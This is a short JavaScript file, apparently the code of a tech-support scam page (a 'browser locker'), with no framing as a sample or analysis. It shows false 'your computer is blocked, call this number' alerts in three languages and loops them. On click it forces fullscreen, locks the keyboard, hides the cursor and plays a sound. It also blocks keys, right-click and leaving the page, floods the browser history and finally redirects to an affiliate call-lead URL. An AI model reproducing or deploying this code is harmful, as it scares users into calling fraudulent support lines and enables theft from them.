var n=0,lang=navigator.language.slice(0,2),msg={fr:"⚠ Votre ordinateur est bloqué. Appelez le 0800 000 000",en:"⚠ Your computer is blocked. Call +1 000 000 0000",ja:"⚠ お使いのパソコンがロックされました。000-0000-0000 に電話してください"};
function loop(){alert(msg[lang]||msg.en);if(n++<50)setTimeout(loop,10);else location.href="https://cc.leadcall.example/?aff=9"}
document.onclick=function(){var e=document.documentElement;(e.requestFullscreen||e.webkitRequestFullscreen||function(){}).call(e);if(navigator.keyboard&&navigator.keyboard.lock)navigator.keyboard.lock();document.body.style.cursor="none";document.getElementById("snd").play();loop()};
document.onkeydown=function(e){e.preventDefault();return false};document.oncontextmenu=function(){return false};
window.onbeforeunload=function(){return msg[lang]||msg.en};for(var i=0;i<100;i++)history.pushState(0,0,"?"+i);
